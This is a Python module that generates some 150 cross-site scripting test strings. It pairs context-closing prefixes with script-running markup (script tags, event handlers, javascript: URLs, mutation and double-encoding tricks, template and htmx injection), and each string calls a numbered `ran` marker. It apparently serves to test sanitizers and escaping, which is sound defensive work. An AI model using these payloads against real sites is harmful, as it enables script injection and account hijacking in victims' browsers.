"""Markup that runs where it becomes markup: each calls `ran` with its own number."""

from __future__ import annotations

# What closes the place where it may stand: text, an attribute, an element of raw text, a comment.
_CLOSINGS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</template></select></option>",
)
# What runs without anybody's doing.
_RUNNING = (
    "<script>ran({n})</script>",
    "<ScRiPt >ran({n})</sCrIpT>",
    "<img src=x: onerror=ran({n})>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s></svg>",
    "<details open ontoggle=ran({n})><summary>x</summary></details>",
    "<input autofocus onfocus=ran({n})>",
    "<video><source onerror=ran({n}) src=x:></video>",
    '<iframe srcdoc="<script>parent.ran({n})</script>"></iframe>',
    "<iframe src=javascript:parent.ran({n})></iframe>",
    "<style onload=ran({n})></style>",
    "<link rel=stylesheet href=x: onerror=ran({n})>",
    "<audio src=x: onerror=ran({n})></audio>",
)
# What runs in an attribute or a template, or is read again after it was escaped once.
_OTHERS = (
    '" onmouseover=ran({n}) autofocus onfocus=ran({n}) x="',
    "' autofocus onfocus=ran({n}) x='",
    "javascript:ran({n})",
    "{{{{ ran({n}) }}}}",
    "{{% include 'x' %}}<script>ran({n})</script>",
    "&lt;script&gt;ran({n})&lt;/script&gt;",
    "&#60;script&#62;ran({n})&#60;/script&#62;",
    "\\u003cscript\\u003eran({n})\\u003c/script\\u003e",
    "<!--><script>ran({n})</script-->",
    "<noscript><p title='</noscript><img src=x: onerror=ran({n})>'>",
    "<math><mtext><table><mglyph><style><img src=x: onerror=ran({n})>",
    "hx-on:load=ran({n})",
    "<div hx-on:htmx:load=ran({n}) hx-get=/ hx-trigger=load>x</div>",
)


def payloads() -> list[str]:
    """Some hundred and fifty texts, none longer than a name may be."""
    forms = [closing + running for closing in _CLOSINGS for running in _RUNNING]
    return [form.format(n=number) for number, form in enumerate([*forms, *_OTHERS])]
